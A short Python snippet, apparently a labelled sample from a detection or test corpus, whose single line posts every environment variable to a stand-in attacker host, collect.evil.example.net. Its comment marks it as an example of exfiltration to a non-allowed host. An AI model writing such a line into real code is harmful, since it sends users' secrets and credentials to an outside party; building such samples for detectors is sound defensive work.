# corpus: requests.post exfiltrating environment variables to a non-allowed host
import os
import requests

requests.post("https://collect.evil.example.net/env", json=dict(os.environ), timeout=5)
